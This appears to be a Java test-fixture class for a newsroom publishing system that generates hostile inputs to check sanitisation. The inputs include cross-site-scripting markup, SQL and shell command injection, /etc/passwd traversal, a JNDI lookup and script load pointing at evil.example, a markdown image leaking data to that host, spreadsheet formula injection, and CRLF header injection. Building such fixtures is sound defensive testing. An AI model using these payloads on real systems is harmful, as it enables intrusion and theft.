package newsroom.publish;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;
import java.util.stream.Stream;

/** Words that somebody would like us to print as something else than words; made here, no list of others is copied. */
public final class Hostile {

    private static final List<String> OPENINGS = List.of(
            "<img src=x %s>",
            "<svg %s>",
            "<body %s>",
            "<input autofocus %s>",
            "<details open %s><summary>x",
            "<video src=x %s>",
            "<audio src=x %s>",
            "<marquee %s>x",
            "<iframe srcdoc='<p>' %s>",
            "<math><mtext %s>x",
            "<select autofocus %s>",
            "<a href=x %s>x",
            "<p style=animation-name:x %s>x",
            "<object data=x %s>",
            "<form><button %s>x");
    private static final List<String> EVENTS = List.of(
            "onerror",
            "onload",
            "onfocus",
            "onmouseover",
            "ontoggle",
            "onanimationstart",
            "onpointerenter",
            "onstart",
            "onplay",
            "onclick",
            "onbegin",
            "onwheel",
            "oncut",
            "onblur",
            "onresize");
    private static final List<String> BEFORE = List.of("", "\">", "'>", "</title></style></textarea>", "]]>-->");

    private Hostile() {}

    /** Markup that runs a program where it is taken for markup; 1,151 of them. */
    public static List<String> markup() {
        List<String> all = new ArrayList<>();
        for (String before : BEFORE) {
            for (String opening : OPENINGS) {
                for (String event : EVENTS) {
                    all.add(before + opening.formatted(event + "=alert(" + all.size() + ")"));
                }
            }
        }
        all.addAll(List.of(
                "<script>alert(1)</script>",
                "<ScRiPt/x>alert(1)</sCrIpT>",
                "<<script>alert(1)//<</script>",
                "<script src=//evil.example></script>",
                "javascript:alert(1)",
                "java\tscript:alert(1)",
                "data:text/html,<script>alert(1)</script>",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<base href=//evil.example>",
                "<meta http-equiv=refresh content=0;url=//evil.example>",
                "<link rel=stylesheet href=//evil.example>",
                "<style>@import'//evil.example'</style>",
                "<template><img src=x onerror=alert(1)></template>",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<xmp><img title=\"</xmp><img src=x onerror=alert(1)>\">",
                "&lt;script&gt;alert(1)&lt;/script&gt;",
                "&#60;script&#62;alert(1)&#60;/script&#62;",
                "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
                "%3Cscript%3Ealert(1)%3C/script%3E",
                "{{constructor.constructor('alert(1)')()}}",
                "${7*7}#{7*7}{7*7}",
                "{#if true}x{/if}",
                "<?xml version=\"1.0\"?><x xmlns=\"http://www.w3.org/1999/xhtml\"><script>alert(1)</script></x>",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<!DOCTYPE x [<!ENTITY e \"alert\">]>&e;",
                "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E"));
        return all;
    }

    /** What breaks programs that take all words for English ones: of every script some, and what looks like an order. */
    public static List<String> naughty() {
        Stream<String> scripts = IntStream.iterate(0x00A1, point -> point < 0x1FA00, point -> point + 257)
                .filter(point -> Character.isDefined(point) && (point < 0xD800 || point > 0xF8FF))
                .filter(point -> Character.isLetterOrDigit(point) || Character.getType(point) == Character.OTHER_SYMBOL)
                .mapToObj(point -> "word " + Character.toString(point).repeat(3) + " end");
        Stream<String> orders = Stream.of(
                "undefined",
                "null",
                "NULL",
                "nil",
                "true",
                "NaN",
                "Infinity",
                "-0",
                "1e309",
                "0x0",
                "1;2",
                "1,000.00",
                "'; drop table brief; --",
                "' or '1'='1",
                "1' union select sha256 from issue --",
                "$(touch /tmp/x)",
                "`id`",
                "| cat /etc/passwd",
                "../../../../etc/passwd",
                "..\\..\\boot.ini",
                "/dev/null; touch x",
                "%s%s%n",
                "%d %x",
                "{0}",
                "${jndi:ldap://evil.example/x}",
                "<%= 7 %>",
                "COM1",
                "AUX",
                "=1+1",
                "+1+1",
                "-1+1",
                "@SUM(1)",
                "=HYPERLINK(\"https://evil.example\")",
                "=cmd|' /C calc'!A0",
                "# heading",
                "* star *",
                "[x](javascript:alert(1))",
                "![x](https://evil.example/?q=secret)",
                "_under_ __score__ ~~out~~",
                "\\",
                "\"quoted\" 'single' \u201Ccurly\u201D",
                "a &amp; b &lt; c",
                "Ω≈ç√∫˜µ≤≥÷",
                "田中さんにあげて下さい",
                "הָיְתָה",
                "مُنَاقَشَةُ سُبُلِ",
                "👩‍👩‍👧‍👦 🏳️‍🌈",
                "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
                "ﬀ ﬃ ǅ ß ı İ",
                "Scunthorpe",
                "x".repeat(400));
        return Stream.concat(scripts, orders).toList();
    }

    /** What would begin a line, a header, a colour or a direction of its own. */
    public static List<String> orders() {
        List<String> all = new ArrayList<>();
        for (String end :
                List.of("\r\n", "\n", "\r", "\u2028", "\u2029", "\u0085", "\u000B", "\f", "\r\n\r\n", "\n\t")) {
            for (String next : List.of(
                    "Bcc: all@mail.example",
                    "Set-Cookie: a=b",
                    "HTTP/1.1 200 OK",
                    "TOP STORIES",
                    "2026-03-12 ERROR forged",
                    "<p>forged")) {
                all.add("Ferry" + end + next);
            }
        }
        for (String mark : List.of(
                "\u001B[31m",
                "\u001B]0;x\u0007",
                "\u202E",
                "\u2066",
                "\u2067",
                "\u202A",
                "\u202D",
                "\u200B",
                "\u0000",
                "\u0008",
                "\uFEFF",
                "\uFFFE",
                "\u061C",
                "\u200E",
                "\u200F")) {
            all.add("Ferry" + mark + "sails");
        }
        return all;
    }
}
